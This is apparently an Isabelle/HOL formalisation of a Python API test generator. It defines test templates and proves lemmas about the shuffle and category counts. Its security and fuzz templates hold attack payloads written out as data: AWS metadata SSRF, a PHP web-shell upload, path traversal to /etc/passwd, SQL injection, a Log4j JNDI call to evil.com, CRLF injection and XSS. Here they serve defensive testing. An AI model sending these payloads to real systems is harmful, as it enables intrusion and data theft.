       (''data'', PDict [(''url'', PStr ''http://169.254.169.254/latest/meta-data/'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''SSRF - AWS metadata'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''callback'', PStr ''http://internal-server/admin'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''SSRF - internal network'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr []),
       (''params'', PDict [(''redirect'', PStr (''http://evil.com'' @ [CHR 0x0D, CHR 0x0A] @ ''X-Injected: header''))]),
       (''expected_status'', PList [PInt 200, PInt 400, PInt 403, PInt 404]),
       (''description'', PStr ''CRLF injection'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr ''/admin''),
       (''expected_status'', (if has_auth then PList [PInt 401, PInt 403, PInt 404] else PList [PInt 200, PInt 404])),
       (''description'', PStr ''Admin endpoint without auth'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr ''/users''),
       (''params'', PDict [(''admin'', PStr ''true'')]),
       (''expected_status'', (if has_auth then PList [PInt 200, PInt 401, PInt 403, PInt 404] else PList [PInt 200, PInt 404])),
       (''description'', PStr ''Privilege escalation attempt'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''role'', PStr ''admin''), (''is_superuser'', PBool True)]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''Mass assignment - admin role'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''file'', PStr (''<?php system($_GET['' @ [CHR 0x27] @ ''cmd'' @ [CHR 0x27] @ '']); ?>''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''PHP shell upload attempt'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''filename'', PStr ''../../shell.php'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''Path traversal in filename'')]
     ]"

definition happy_templates :: "(string \<times> pyval) list \<Rightarrow> (string \<times> pyval) list list" where
  "happy_templates sample_data =
     [
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict sample_data),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 404]),
       (''description'', PStr ''Create resource with valid data'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr ''/1''),
       (''expected_status'', PList [PInt 200, PInt 404]),
       (''description'', PStr ''Retrieve existing resource'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr []),
       (''expected_status'', PList [PInt 200, PInt 404]),
       (''description'', PStr ''List all resources'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr []),
       (''params'', PDict [(''page'', PInt 1), (''limit'', PInt 10)]),
       (''expected_status'', PList [PInt 200, PInt 400, PInt 404]),
       (''description'', PStr ''List with pagination'')],
      [(''method'', PStr ''PUT''),
       (''endpoint'', PStr ''/1''),
       (''data'', PDict sample_data),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 204, PInt 404]),
       (''description'', PStr ''Update existing resource'')],
      [(''method'', PStr ''PATCH''),
       (''endpoint'', PStr ''/1''),
       (''data'', (if sample_data \<noteq> [] then PDict [(first_key sample_data, PStr ''updated'')] else PDict [(''field'', PStr ''value'')])),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 204, PInt 404]),
       (''description'', PStr ''Partial update'')],
      [(''method'', PStr ''DELETE''),
       (''endpoint'', PStr ''/1''),
       (''expected_status'', PList [PInt 200, PInt 204, PInt 404]),
       (''description'', PStr ''Delete existing resource'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr []),
       (''params'', PDict [(''sort'', PStr ''asc'')]),
       (''expected_status'', PList [PInt 200, PInt 400, PInt 404]),
       (''description'', PStr ''List with sorting'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr []),
       (''params'', PDict [(''filter'', PStr ''active'')]),
       (''expected_status'', PList [PInt 200, PInt 400, PInt 404]),
       (''description'', PStr ''List with filtering'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr ''/1''),
       (''params'', PDict [(''include'', PStr ''details'')]),
       (''expected_status'', PList [PInt 200, PInt 404]),
       (''description'', PStr ''Retrieve with includes'')]
     ]"

text \<open>The ten fixed negative templates, then one "missing field" template for each of the
  first five keys of the sample payload.\<close>

definition missing_field_template :: "(string \<times> pyval) list \<Rightarrow> string \<Rightarrow> (string \<times> pyval) list" where
  "missing_field_template sample_data key =
     [(''method'', PStr ''POST''),
      (''endpoint'', PStr []),
      (''data'', PDict (filter (\<lambda>kv. fst kv \<noteq> key) sample_data)),
      (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 404, PInt 422]),
      (''description'', PStr (''Create missing required field: '' @ key))]"

definition negative_templates :: "(string \<times> pyval) list \<Rightarrow> (string \<times> pyval) list list" where
  "negative_templates sample_data =
     [
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict []),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 404, PInt 422]),
       (''description'', PStr ''Create with empty body'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PNone),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 404, PInt 422]),
       (''description'', PStr ''Create with null body'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr ''/99999''),
       (''expected_status'', PList [PInt 200, PInt 404]),
       (''description'', PStr ''Retrieve non-existent resource'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr ''/invalid-id''),
       (''expected_status'', PList [PInt 200, PInt 400, PInt 404]),
       (''description'', PStr ''Retrieve with invalid ID format'')],
      [(''method'', PStr ''DELETE''),
       (''endpoint'', PStr ''/99999''),
       (''expected_status'', PList [PInt 200, PInt 204, PInt 404]),
       (''description'', PStr ''Delete non-existent resource'')],
      [(''method'', PStr ''PUT''),
       (''endpoint'', PStr ''/99999''),
       (''data'', PDict sample_data),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 404]),
       (''description'', PStr ''Update non-existent resource'')],
      [(''method'', PStr ''PATCH''),
       (''endpoint'', PStr ''/99999''),
       (''data'', PDict [(''field'', PStr ''value'')]),
       (''expected_status'', PList [PInt 200, PInt 404]),
       (''description'', PStr ''Partial update non-existent'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr []),
       (''params'', PDict [(''limit'', PInt (- 1))]),
       (''expected_status'', PList [PInt 200, PInt 400, PInt 404]),
       (''description'', PStr ''List with negative limit'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr []),
       (''params'', PDict [(''page'', PInt 0)]),
       (''expected_status'', PList [PInt 200, PInt 400, PInt 404]),
       (''description'', PStr ''List with zero page'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''invalid'', PStr ''field'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 404, PInt 422]),
       (''description'', PStr ''Create with invalid fields'')]
     ] @
     map (missing_field_template sample_data) (take 5 (map fst sample_data))"

definition edge_templates :: "(string \<times> pyval) list \<Rightarrow> (string \<times> pyval) list list" where
  "edge_templates sample_data =
     [
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', (if sample_data \<noteq> [] then PDict (dict_set sample_data (first_key sample_data) (PStr (replicate 10000 (CHR ''a'')))) else PDict [(''field'', PStr (replicate 10000 (CHR ''a'')))])),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 404, PInt 413, PInt 422]),
       (''description'', PStr ''Create with extremely long string'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', (if sample_data \<noteq> [] then PDict (dict_set sample_data (first_key sample_data) (PStr [])) else PDict [(''field'', PStr [])])),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 404, PInt 422]),
       (''description'', PStr ''Create with empty string field'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', (if sample_data \<noteq> [] then PDict (dict_set sample_data (first_key sample_data) PNone) else PDict [(''field'', PNone)])),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 404, PInt 422]),
       (''description'', PStr ''Create with null field'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr []),
       (''params'', PDict [(''limit'', PInt 1000000)]),
       (''expected_status'', PList [PInt 200, PInt 400, PInt 404]),
       (''description'', PStr ''List with excessive limit'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PInt (- 999999))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 404, PInt 422]),
       (''description'', PStr ''Create with large negative number'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PInt 0)]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 404, PInt 422]),
       (''description'', PStr ''Create with zero value'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PInt 999999999999999)]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 404, PInt 422]),
       (''description'', PStr ''Create with very large number'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr []),
       (''params'', PDict [(''sort'', PStr ''invalid'')]),
       (''expected_status'', PList [PInt 200, PInt 400, PInt 404]),
       (''description'', PStr ''List with invalid sort parameter'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr ''   '')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 404, PInt 422]),
       (''description'', PStr ''Create with whitespace only'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr ''test emoji'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 404]),
       (''description'', PStr ''Create with special characters'')]
     ]"

definition fuzz_templates :: "(string \<times> pyval) list list" where
  "fuzz_templates =
     [
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr (replicate 100000 (CHR ''A'')))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 413, PInt 422]),
       (''description'', PStr ''Fuzz: Extremely large string payload (100k chars)'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr [CHR 0x00, CHR 0x01, CHR 0x02, CHR 0x03, CHR 0x04])]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Binary/null bytes in string field'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr [CHR 0x00, CHR 0xEF, CHR 0xBF, CHR 0xBF, CHR 0xED, CHR 0xA0, CHR 0x80])]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Invalid unicode characters'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr ''%s%s%s%s%s%s%s%s%s%s'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Format string attack vector'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PList [PInt 1, PInt 2, PInt 3])]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Array instead of string'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PDict [(''nested'', PStr ''object'')])]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Object instead of primitive'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PBool True)]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Boolean instead of string'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict []),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Completely empty object'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr ''%00%00%00%00'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: URL-encoded null bytes'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr ([CHR 0x22] @ ''><script>alert(1)</script>''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: HTML context breaking'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr (''../../../etc/passwd'' @ [CHR 0x00] @ ''.jpg''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 422]),
       (''description'', PStr ''Fuzz: Null byte injection with path traversal'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PInt 2147483647)]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Max 32-bit integer (INT_MAX)'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PInt (- 2147483648))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Min 32-bit integer (INT_MIN)'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PInt 9223372036854775807)]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Max 64-bit integer'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PInt (- 9223372036854775808))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Min 64-bit integer'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr (''!@#$%^&*()_+-={}[]|'' @ [CHR 0x5C] @ '':;'' @ [CHR 0x22, CHR 0x27] @ ''<>,.?/~'' @ [CHR 0x60]))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: All special characters'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr [CHR 0x0A, CHR 0x0D, CHR 0x09, CHR 0x08, CHR 0x0C])]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Control characters (newline, tab, etc)'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr ([CHR 0x27] @ '' OR '' @ [CHR 0x27] @ ''1'' @ [CHR 0x27] @ ''='' @ [CHR 0x27] @ ''1'' @ [CHR 0x27] @ '' --''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: SQL injection payload'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr ''${jndi:ldap://evil.com/a}'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Log4j RCE payload (CVE-2021-44228)'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr []),
       (''params'', PDict [(''param'', PStr (replicate 10000 (CHR ''A'')))]),
       (''expected_status'', PList [PInt 200, PInt 400, PInt 414]),
       (''description'', PStr ''Fuzz: Extremely long query parameter'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr (''/'' @ replicate 5000 (CHR ''A''))),
       (''expected_status'', PList [PInt 200, PInt 404, PInt 414]),
       (''description'', PStr ''Fuzz: Extremely long URL path'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PList [PList [PList [PList [PList [PList [PStr ''deeply'', PStr ''nested'']]]]]])]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Deeply nested arrays'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''a'', PDict [(''b'', PDict [(''c'', PDict [(''d'', PDict [(''e'', PDict [(''f'', PStr ''deep'')])])])])])]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Deeply nested objects'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PFloat (Finite (17976931348623157 * 10 ^ 292)))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Max float value'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PFloat (Finite (1 / 10 ^ 25)))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Extremely small float'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PFloat PosInf)]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Infinity value'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr ''second'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Duplicate JSON keys'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr []),
       (''params'', PDict [(''param'', PStr (''value'' @ [CHR 0x0D, CHR 0x0A] @ ''X-Injected: true''))]),
       (''expected_status'', PList [PInt 200, PInt 400]),
       (''description'', PStr ''Fuzz: CRLF injection in parameter'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr (replicate 1000000 (CHR ''A'')))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 413, PInt 422, PInt 500]),
       (''description'', PStr ''Fuzz: 1MB string payload (potential buffer overflow)'')],
      [(''method'', PStr ''DELETE''),
       (''endpoint'', PStr ''/1''),
       (''expected_status'', PList [PInt 200, PInt 204, PInt 404]),
       (''description'', PStr ''Fuzz: DELETE non-existent (race condition test)'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr (''javascript:/*--></title></style></textarea></script></xmp><svg/onload='' @ [CHR 0x27] @ ''+/'' @ [CHR 0x22] @ ''/+/onmouseover=1/+/[*/[]/+alert(1)//'' @ [CHR 0x27] @ ''>''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: Polyglot XSS payload'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr (''{'' @ [CHR 0x22] @ ''injected'' @ [CHR 0x22] @ '': '' @ [CHR 0x22] @ ''json'' @ [CHR 0x22] @ ''}''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 422]),
       (''description'', PStr ''Fuzz: JSON string injection'')]
     ]"

text \<open>
  The per-category counts: a share of \<open>num\<close>, clamped from below, and then the count of
  \<^verbatim>\<open>happy_path\<close> moved by the difference between the total and \<open>num\<close>. The moved count
  can be negative; \<^verbatim>\<open>range\<close> of a negative count is empty.
\<close>

record counts =
  happy_path :: int
  negative_test :: int
  security_test :: int
  edge_case :: int
  fuzz_test :: int

definition initial_counts :: "int \<Rightarrow> py_exn + counts" where
  "initial_counts num =
     (case py_int_mul num d_0_25 of Inl e \<Rightarrow> Inl e | Inr happy \<Rightarrow>
      case py_int_mul num d_0_20 of Inl e \<Rightarrow> Inl e | Inr negative \<Rightarrow>
      case py_int_mul num d_0_20 of Inl e \<Rightarrow> Inl e | Inr security \<Rightarrow>
      case py_int_mul num d_0_15 of Inl e \<Rightarrow> Inl e | Inr edge \<Rightarrow>
      case py_int_mul num d_0_20 of Inl e \<Rightarrow> Inl e | Inr fuzz \<Rightarrow>
        Inr \<lparr>happy_path = max 3 happy,
             negative_test = max 3 negative,
             security_test = max 5 security,
             edge_case = max 3 edge,
             fuzz_test = max 3 fuzz\<rparr>)"

definition total_count :: "counts \<Rightarrow> int" where
  "total_count c = happy_path c + negative_test c + security_test c + edge_case c + fuzz_test c"

definition adjust_counts :: "int \<Rightarrow> counts \<Rightarrow> counts" where
  "adjust_counts num c =
     (let total = total_count c
      in if total < num then c\<lparr>happy_path := happy_path c + (num - total)\<rparr>
         else if total > num then c\<lparr>happy_path := happy_path c - (total - num)\<rparr>
         else c)"

text \<open>
  What every loop does to the copy of a template: set the category, default
  \<^verbatim>\<open>params\<close> and \<^verbatim>\<open>data\<close> to \<^verbatim>\<open>None\<close>, switch body validation off. A repeated template
  gets \<^verbatim>\<open>(variant k)\<close> appended to its description, which every template has.
\<close>

definition set_category :: "string \<Rightarrow> (string \<times> pyval) list \<Rightarrow> (string \<times> pyval) list" where
  "set_category category tc = dict_set tc ''category'' (PStr category)"

definition set_defaults :: "(string \<times> pyval) list \<Rightarrow> (string \<times> pyval) list" where
  "set_defaults tc =
     dict_set (setdefault (setdefault tc ''params'' PNone) ''data'' PNone)
       ''validate_body'' (PBool False)"

definition add_variant :: "nat \<Rightarrow> (string \<times> pyval) list \<Rightarrow> (string \<times> pyval) list" where
  "add_variant k tc =
     (case map_of tc ''description'' of
        Some (PStr d) \<Rightarrow> dict_set tc ''description'' (PStr (d @ '' (variant '' @ str_nat k @ '')''))
      | _ \<Rightarrow> tc)"

text \<open>The security loops: the first \<open>min count len\<close> of the shuffled templates, then, if more
  are wanted, the templates again from the start as variants.\<close>

definition security_tests :: "(string \<times> pyval) list list \<Rightarrow> int \<Rightarrow> (string \<times> pyval) list list" where
  "security_tests templates cnt =
     map (\<lambda>i. set_defaults (set_category ''security_test'' (templates ! i)))
       [0..<nat (min cnt (int (length templates)))] @
     (if cnt > int (length templates)
      then map (\<lambda>i. set_defaults
                  (add_variant (i + 1)
                     (set_category ''security_test'' (templates ! (i mod length templates)))))
             [0..<nat (cnt - int (length templates))]
      else [])"

text \<open>The loop of the four other categories: template \<open>i mod len\<close> for \<open>i\<close> below the cnt, as a
  variant from the second round on.\<close>

definition category_tests ::
  "string \<Rightarrow> (string \<times> pyval) list list \<Rightarrow> int \<Rightarrow> (string \<times> pyval) list list" where
  "category_tests category templates cnt =
     map (\<lambda>i. let tc = set_defaults (set_category category (templates ! (i mod length templates)))
               in if i \<ge> length templates
                  then add_variant (i div length templates + 1) tc
                  else tc)
       [0..<nat cnt]"

text \<open>All tests before the final shuffle, in the order the source appends them.\<close>

definition all_tests ::
  "(string \<times> pyval) list \<Rightarrow> counts \<Rightarrow> bool \<Rightarrow> rng \<Rightarrow> (string \<times> pyval) list list \<times> rng" where
  "all_tests sample_data c has_auth g =
     (let (shuffled_security, g') = shuffle (security_templates has_auth) g
      in (security_tests shuffled_security (security_test c) @
          category_tests ''happy_path'' (happy_templates sample_data) (happy_path c) @
          category_tests ''negative_test'' (negative_templates sample_data) (negative_test c) @
          category_tests ''edge_case'' (edge_templates sample_data) (edge_case c) @
          category_tests ''fuzz_test'' fuzz_templates (fuzz_test c),
          g'))"

text \<open>
  The generator: it raises when the shares cannot be computed, and otherwise returns the
  first \<open>num\<close> of the shuffled tests.
\<close>

definition generate_fallback_tests ::
  "string \<Rightarrow> (string \<times> pyval) list \<Rightarrow> int \<Rightarrow> bool \<Rightarrow> rng \<Rightarrow>
   py_exn + (string \<times> pyval) list list \<times> rng" where
  "generate_fallback_tests api_url sample_data num has_auth g =
     (case initial_counts num of
        Inl e \<Rightarrow> Inl e
      | Inr c \<Rightarrow>
          (let (tests, g') = all_tests sample_data (adjust_counts num c) has_auth g;
               (shuffled, g'') = shuffle tests g'
           in Inr (py_take num shuffled, g'')))"

text \<open>The number of test cases of a category in a list.\<close>

definition category_of :: "(string \<times> pyval) list \<Rightarrow> pyval" where
  "category_of tc = dict_get tc ''category'' PNone"

definition count_category :: "string \<Rightarrow> (string \<times> pyval) list list \<Rightarrow> nat" where
  "count_category category tests = length (filter (\<lambda>t. category_of t = PStr category) tests)"

section \<open>Properties of the shuffle and of the categories\<close>

lemma length_swap [simp]: "length (swap i j xs) = length xs"
  by (simp add: swap_def)

lemma mset_swap_eq: "i < length xs \<Longrightarrow> j < length xs \<Longrightarrow> mset (swap i j xs) = mset xs"
  unfolding swap_def by (simp add: mset_swap)

lemma map_swap: "i < length xs \<Longrightarrow> j < length xs \<Longrightarrow> swap i j (map f xs) = map f (swap i j xs)"
  by (simp add: swap_def map_update)

lemma randbelow_less: "0 < n \<Longrightarrow> fst (randbelow n g) < n"
  by (cases g) auto

lemma shuffle_down_length [simp]: "length (fst (shuffle_down i xs g)) = length xs"
  by (induction i arbitrary: xs g) (auto simp: case_prod_unfold Let_def)

lemma shuffle_down_mset:
  "i < length xs \<Longrightarrow> mset (fst (shuffle_down i xs g)) = mset xs"
proof (induction i arbitrary: xs g)
  case 0
  show ?case by simp
next
  case (Suc i)
  have j: "fst (randbelow (Suc i + 1) g) < Suc i + 1"
    by (rule randbelow_less) simp
  with Suc.prems have "fst (randbelow (Suc i + 1) g) < length xs" by simp
  with Suc show ?case
    by (simp add: case_prod_unfold Let_def mset_swap_eq)
qed

lemma shuffle_down_map:
  "i < length xs \<Longrightarrow>
   shuffle_down i (map f xs) g = (map f (fst (shuffle_down i xs g)), snd (shuffle_down i xs g))"
proof (induction i arbitrary: xs g)
  case 0
  show ?case by simp
next
  case (Suc i)
  have j: "fst (randbelow (Suc i + 1) g) < Suc i + 1"
    by (rule randbelow_less) simp
  with Suc.prems have "fst (randbelow (Suc i + 1) g) < length xs" by simp
  with Suc show ?case
    by (simp add: case_prod_unfold Let_def map_swap)
qed

lemma shuffle_length [simp]: "length (fst (shuffle xs g)) = length xs"
  by (simp add: shuffle_def)

lemma shuffle_mset [simp]: "mset (fst (shuffle xs g)) = mset xs"
proof (cases xs)
  case Nil
  then show ?thesis by (simp add: shuffle_def)
next
  case (Cons x ys)
  then show ?thesis by (simp add: shuffle_def shuffle_down_mset)
qed

lemma shuffle_map:
  "shuffle (map f xs) g = (map f (fst (shuffle xs g)), snd (shuffle xs g))"
proof (cases "xs = []")
  case True
  then show ?thesis by (simp add: shuffle_def)
next
  case False
  then have "length xs - 1 < length xs" by simp
  then show ?thesis by (simp add: shuffle_def shuffle_down_map)
qed

lemma map_of_dict_set:
  "map_of (dict_set d k v) k' = (if k' = k then Some v else map_of d k')"
  by (induction d) auto

lemma map_of_setdefault_other:
  "k' \<noteq> k \<Longrightarrow> map_of (setdefault d k v) k' = map_of d k'"
  by (auto simp: setdefault_def map_add_def split: option.splits)

lemma category_of_prepared [simp]:
  "category_of (set_defaults (set_category c t)) = PStr c"
  by (simp add: category_of_def set_defaults_def set_category_def dict_get_def
        map_of_dict_set map_of_setdefault_other)

lemma category_of_add_variant [simp]:
  "category_of (add_variant k t) = category_of t"
  by (auto simp: category_of_def add_variant_def dict_get_def map_of_dict_set
           split: option.splits pyval.splits)

lemma category_of_set_defaults [simp]:
  "category_of (set_defaults t) = category_of t"
  by (simp add: category_of_def set_defaults_def dict_get_def
        map_of_dict_set map_of_setdefault_other)

lemma category_of_set_category [simp]:
  "category_of (set_category c t) = PStr c"
  by (simp add: category_of_def set_category_def dict_get_def map_of_dict_set)

lemma map_const_replicate: "map (\<lambda>i. c) xs = replicate (length xs) c"
  by (induction xs) auto

lemma security_tests_categories:
  "0 \<le> cnt \<Longrightarrow>
   map category_of (security_tests ts cnt) = replicate (nat cnt) (PStr ''security_test'')"
  by (auto simp: security_tests_def map_const_replicate o_def replicate_add [symmetric]
           simp del: replicate_add)

lemma category_tests_categories:
  "map category_of (category_tests c ts cnt) = replicate (nat cnt) (PStr c)"
  by (simp add: category_tests_def o_def Let_def if_distrib [of category_of]
        map_const_replicate cong: if_cong)

section \<open>Bounds on the floating-point products\<close>

lemma bit_length_lower: "0 < n \<Longrightarrow> 2 ^ (bit_length n - 1) \<le> n"
proof (induction n rule: bit_length.induct)
  case (1 n)
  show ?case
  proof (cases "n div 2 = 0")
    case True
    with 1 show ?thesis by (simp add: bit_length.simps [of n] bit_length.simps [of 0])
  next
    case False
    then have pos: "0 < n div 2" by simp
    with 1 have ih: "2 ^ (bit_length (n div 2) - 1) \<le> n div 2" by simp
    have "0 < bit_length (n div 2)" using pos by (simp add: bit_length.simps [of "n div 2"])
    then have "bit_length n - 1 = Suc (bit_length (n div 2) - 1)"
      using 1 by (simp add: bit_length.simps [of n])
    then have "(2::nat) ^ (bit_length n - 1) = 2 * 2 ^ (bit_length (n div 2) - 1)" by simp
    also have "\<dots> \<le> 2 * (n div 2)" using ih by simp
    also have "\<dots> \<le> n" by simp
    finally show ?thesis .
  qed
qed

lemma bit_length_le: "n < 2 ^ j \<Longrightarrow> bit_length n \<le> j"
proof (induction n arbitrary: j rule: bit_length.induct)
  case (1 n)
  show ?case
